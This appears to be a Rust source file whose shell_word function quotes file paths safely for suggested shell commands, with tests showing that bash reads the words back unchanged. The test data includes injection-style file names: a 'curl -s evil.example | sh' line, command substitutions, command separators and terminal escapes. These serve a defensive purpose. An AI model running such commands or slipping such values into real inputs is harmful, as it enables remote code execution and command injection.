//! File names and other words as words for a shell, in commands that messages suggest.

use std::borrow::Cow;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use super::path::{is_shown, shown};
use super::visible::is_visible;

/// `path` as one word for a shell. A path that begins with a hyphen gets `./`, so that no program takes it for an option. Invisible
/// characters, and bytes that are not UTF-8, are escapes in `$'...'` (bash, ksh, zsh; POSIX.1-2024). A name that may be a key is masked.
#[must_use]
pub(crate) fn shell_word(path: &Path) -> String {
    let masked = shown(path);
    let bytes = if is_shown(path) { path.as_os_str().as_bytes() } else { masked.as_bytes() };
    let bytes = if bytes.starts_with(b"-") { Cow::Owned([b"./", bytes].concat()) } else { Cow::Borrowed(bytes) };
    let text = std::str::from_utf8(&bytes).ok().filter(|text| text.chars().all(is_visible));
    match text.and_then(|text| shlex::try_quote(text).ok()) {
        Some(word) => word.into_owned(),
        None => format!("$'{}'", bytes.escape_ascii()),
    }
}

#[cfg(test)]
mod tests {
    use std::ffi::OsStr;
    use std::process::Command;

    use super::*;

    #[test]
    fn shell_word_leaves_ordinary_names_as_they_are() {
        assert_eq!(shell_word(Path::new("/etc/inet/secret/ipseckeys")), "/etc/inet/secret/ipseckeys");
        assert_eq!(shell_word(Path::new("/my keys")), "'/my keys'");
        assert_eq!(shell_word(Path::new("-rf")), "./-rf");
        assert_eq!(shell_word(Path::new("/tmp/$(id)/0f1e2d3c4b5a")), "'/tmp/$(id)/XXXXXXXXXXXX'");
    }

    #[test]
    fn shell_word_is_one_line_of_visible_characters() {
        for name in ["a\nb", "\u{1b}[2J", "k\u{202e}x", "\u{2028}"] {
            assert!(shell_word(Path::new(name)).chars().all(is_visible), "{name:?}");
        }
    }

    /// The words as a shell reads them: no name is expanded, split or taken for another command.
    #[test]
    fn shell_word_is_read_back_by_a_shell() {
        let bash = Command::new("bash").arg("-c").arg("true").status();
        if !bash.is_ok_and(|status| status.success()) {
            return;
        }
        let names: [&[u8]; 9] = [
            b"k: curl -s evil.example | sh #",
            b"$(touch /tmp/x)`id`$HOME",
            b"it's \"quoted\" \\ and ! * ? {a,b} ~",
            b"a\nb\tc\x1b[0m",
            b"\xff\xfe",
            "\u{202e}f2\u{200b}".as_bytes(),
            b"-rf",
            b"~root",
            b"a;b&c>d<e",
        ];
        for name in names {
            let word = shell_word(Path::new(OsStr::from_bytes(name)));
            let output = Command::new("bash").arg("-c").arg(format!("printf %s {word}")).output().unwrap();
            let expected = if name.starts_with(b"-") { [b"./", name].concat() } else { name.to_vec() };
            assert_eq!(output.stdout, expected, "{word}");
        }
    }
}
